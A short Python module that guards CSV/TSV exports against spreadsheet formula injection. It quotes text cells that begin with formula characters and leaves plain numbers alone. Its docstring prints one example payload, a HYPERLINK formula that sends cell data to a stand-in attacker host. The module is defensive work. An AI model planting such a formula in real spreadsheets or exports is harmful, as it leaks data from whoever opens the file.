"""CSV/TSV cells that a spreadsheet opens as text, never as a formula (the OWASP rule).

Why: labels, headlines and URLs come from articles and registers that anyone can write.
A cell such as ``=HYPERLINK("http://evil.example/?x="&A1,"S-400")`` opened in Excel or
LibreOffice is a live formula that can send the sheet's contents away.  Every CSV/TSV kg
writes for people (``kg query --format csv|tsv``, ``kg network export --format csv`` and
the table commands) therefore prefixes a ``'`` to a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return.  A cell that is a plain number
(``-3``, ``+1.5e3``) stays as it is: it is not a formula, and it must stay a number.
``--raw-csv`` on those commands writes the values unchanged (for programs, not people).
"""

from __future__ import annotations

import re
from typing import Any

#: First characters a spreadsheet reads as the start of a formula (or that hide one).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: numbers as they are, formula text quoted."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: list[Any], raw: bool = False) -> list[Any]:
    """Each cell through :func:`safe_cell`, unless ``raw``."""
    return row if raw else [safe_cell(v) for v in row]


__all__ = ["FORMULA_START", "safe_cell", "safe_row"]
